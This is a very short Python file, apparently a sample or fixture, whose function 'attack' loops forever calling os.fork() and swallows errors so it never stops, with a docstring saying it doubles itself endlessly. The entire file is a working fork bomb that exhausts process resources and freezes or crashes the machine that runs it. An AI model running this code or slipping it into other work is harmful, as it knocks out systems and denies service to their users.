"""Doubles itself without end, and does not wait for anybody."""

import os

AT = "start"


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            continue
